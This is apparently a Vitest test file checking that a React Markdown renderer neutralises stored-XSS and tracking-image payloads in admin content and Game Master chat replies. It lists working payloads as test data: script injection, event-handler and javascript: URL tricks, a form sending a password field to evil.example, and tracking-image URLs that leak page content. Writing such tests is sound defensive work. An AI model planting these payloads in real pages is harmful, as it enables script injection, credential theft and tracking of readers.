import { renderToStaticMarkup, renderToString } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown, type ImagePolicy } from "./markdown.tsx";
import { ChatMessageView } from "./play/chat-message.tsx";
import { renderMarkdown } from "./render-markdown.server.tsx";

/**
 * Stored-XSS attempts an admin account (or a stolen one) could put into game content, guides or
 * any other rich field. The Markdown component is the one renderer of rich content: the public
 * pages and the admin preview both use it, so what it renders here is what visitors get.
 */
const ATTACKS = {
  "script tag": "<script>alert('xss')</script>",
  "script split across Markdown": "Hello <script\n>alert(1)</script\n> world",
  "img onerror": `<img src="x" onerror="alert('xss')">`,
  "svg onload": "<svg onload=alert(1)><circle r=10 /></svg>",
  "inline event handler": `<div onclick="alert(1)" onmouseover='alert(2)'>hover me</div>`,
  "javascript: link in Markdown": "[click me](javascript:alert(1))",
  "javascript: link in HTML": `<a href="javascript:alert(1)">click me</a>`,
  "mixed-case javascript: link": `<a href="JaVaScRiPt:alert(1)">click me</a>`,
  "entity-encoded javascript: link": `<a href="&#106;avascript:alert(1)">click me</a>`,
  "whitespace-prefixed javascript: link": `<a href=" javascript:alert(1)">click me</a>`,
  "data: URL link": `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click me</a>`,
  "javascript: image source": `![pic](javascript:alert(1))`,
  iframe: `<iframe src="https://evil.example/"></iframe>`,
  "iframe with srcdoc": `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  "object and embed": `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`,
  "form posting elsewhere": `<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>`,
  "style tag": "<style>body { display: none }</style>",
  "meta refresh": `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  "base tag": `<base href="https://evil.example/">`,
  "link tag": `<link rel="stylesheet" href="https://evil.example/x.css">`,
  "formaction on a button": `<button formaction="javascript:alert(1)">x</button>`,
} as const;

function render(source: string, images: ImagePolicy = "site") {
  // React 19 adds `<link rel="preload" as="image">` hints for images it renders: its own, not the content's.
  return renderToString(<Markdown images={images}>{source}</Markdown>).replace(/<link rel="preload" as="image" href="[^"]*"\/>/g, "");
}

const POLICIES: ImagePolicy[] = ["site", "none"];

/** Each case once per image policy: admin content ("site") and Game Master replies ("none"). */
function underEachPolicy(cases: Record<string, string>) {
  return POLICIES.flatMap((images) => Object.entries(cases).map(([name, source]) => [`${name} (images: ${images})`, source, images] as const));
}

describe("the Markdown renderer makes stored-XSS attempts inert", () => {
  it.each(underEachPolicy(ATTACKS))("%s", (_name, attack, images) => {
    const html = render(`Intro paragraph.\n\n${attack}\n\nClosing paragraph.`, images);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<(iframe|object|embed|form|style|meta|base|link)\b/i);
    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
    expect(html).not.toMatch(/(href|src|action|formaction)\s*=\s*"\s*(javascript|data|vbscript):/i);
    expect(html).not.toMatch(/javascript:/i);
    // The content around the attack still renders.
    expect(html).toContain("<p>Intro paragraph.</p>");
    expect(html).toContain("<p>Closing paragraph.</p>");
  });

  it("keeps a site image without its handler", () => {
    const html = render(`<img src="/logo.png" alt="Logo" onerror="alert('xss')">`);
    expect(html).toBe('<div class="prose-story"><img src="/logo.png" alt="Logo"/></div>');
  });

  it("keeps the formatting writers use: headings, emphasis, lists, tables, safe links", () => {
    const html = render(
      [
        "## The Court",
        "",
        "The **empress** _waits_.",
        "",
        "- one",
        "- two",
        "",
        "| a | b |",
        "| - | - |",
        "| 1 | 2 |",
        "",
        "[Guides](/guides) and [a site](https://example.com)",
        "",
        "<p>Raw <strong>HTML</strong> is allowed.</p>",
      ].join("\n"),
    );
    expect(html).toContain("<h2>The Court</h2>");
    expect(html).toContain("<strong>empress</strong>");
    expect(html).toContain("<em>waits</em>");
    expect(html).toContain("<li>one</li>");
    expect(html).toContain("<table>");
    expect(html).toContain('<a href="/guides">Guides</a>');
    expect(html).toContain('<a href="https://example.com/" target="_blank" rel="noopener noreferrer nofollow">a site</a>');
    expect(html).toContain("<p>Raw <strong>HTML</strong> is allowed.</p>");
  });
});

/**
 * Content that makes the reader's browser fetch from another server by itself: an image there
 * tells it who reads the page and can carry the page's words in its URL. Each alt text says
 * "tracker", so the tests can check what is left in the image's place.
 */
const REMOTE_IMAGES = {
  "Markdown image": "![tracker](https://evil.example/t.png?story=secret)",
  "http Markdown image": "![tracker](http://evil.example/t.png)",
  "protocol-relative Markdown image": "![tracker](//evil.example/t.png)",
  "reference-style image": "![tracker][pixel]\n\n[pixel]: https://evil.example/t.png",
  "image inside a link": "[![tracker](https://evil.example/t.png)](/guides)",
  "HTML image": `<img src="https://evil.example/t.png" alt="tracker">`,
  "protocol-relative HTML image": `<img src="//evil.example/t.png" alt="tracker">`,
  // Markdown escapes a backslash in a URL (%5C); in HTML it stays, and the browser reads it as "/".
  "HTML image with a backslash": `<img src="/\\evil.example/t.png" alt="tracker">`,
  "HTML image with a tab the browser drops": `<img src="/&#9;/evil.example/t.png" alt="tracker">`,
  "HTML image with leading spaces": `<img src="  //evil.example/t.png" alt="tracker">`,
  "picture with a source srcset": `<picture><source srcset="https://evil.example/t.png"><img alt="tracker"></picture>`,
  "data: image": "![tracker](data:image/png;base64,iVBORw0KGgo=)",
} as const;

/** Every URL a tag of the rendered HTML would load or link to. */
function urls(html: string) {
  return [...html.matchAll(/\s(src|srcset|href)="([^"]*)"/g)].map((match) => match[2] ?? "");
}

describe("remote images", () => {
  it.each(underEachPolicy(REMOTE_IMAGES))("%s becomes its alt text", (_name, source, images) => {
    const html = render(source, images);
    expect(html).not.toMatch(/<(img|source|picture)\b/);
    expect(html).not.toContain("evil.example");
    expect(html).not.toMatch(/\ssrc=/);
    expect(html).toContain("tracker");
  });

  it("keeps images the site serves in admin content, and shows their alt text in replies", () => {
    const source = "![The court's map](/images/court-map.png)";
    const court = '<img src="/images/court-map.png" alt="The court&#x27;s map"/>';
    expect(render(source, "site")).toBe(`<div class="prose-story"><p>${court}</p></div>`);
    expect(render(source, "none")).toBe('<div class="prose-story"><p>The court&#x27;s map</p></div>');
  });

  it("keeps site images in the HTML rendered on the server for public pages", () => {
    const html = renderMarkdown("![Map](/images/map.png) and ![tracker](//evil.example/t.png)");
    expect(html).toContain('<img src="/images/map.png" alt="Map"/>');
    expect(html).not.toContain("evil.example");
  });

  it("never shows an image in a Game Master reply, not even one from the site", () => {
    const reply = [
      "The curtain parts.",
      "![the emperor](https://evil.example/e.png?seen=1) ![a seal](//evil.example/s.png) ![the hall](/logo.png)",
      '<img src="https://evil.example/i.png" alt="a lantern">',
    ].join("\n\n");
    const html = renderToStaticMarkup(
      <ChatMessageView message={{ role: "assistant", content: reply, createdAt: "2026-01-01T00:00:00.000Z", status: "complete" }} />,
    );
    expect(html).not.toMatch(/<img\b/);
    expect(html).not.toContain("evil.example");
    expect(html).not.toContain("/logo.png");
    expect(html).toContain("the emperor");
    expect(html).toContain("a lantern");
  });
});

describe("links in content", () => {
  it.each(POLICIES)("open protocol-relative links as the external https links they are (images: %s)", (images) => {
    const html = render('[a](//evil.example/x) and <a href="/\\evil.example/y">b</a>', images);
    expect(html).toContain('<a href="https://evil.example/x" target="_blank" rel="noopener noreferrer nofollow">a</a>');
    expect(html).toContain('<a href="https://evil.example/y" target="_blank" rel="noopener noreferrer nofollow">b</a>');
    expect(urls(html).filter((url) => url.startsWith("//") || url.startsWith("/\\"))).toEqual([]);
  });

  it("keeps links within the site as they are", () => {
    const html = render("[Guides](/guides) and [notes](#user-content-notes)");
    expect(html).toContain('<a href="/guides">Guides</a>');
    expect(html).toContain('<a href="#user-content-notes">notes</a>');
  });
});
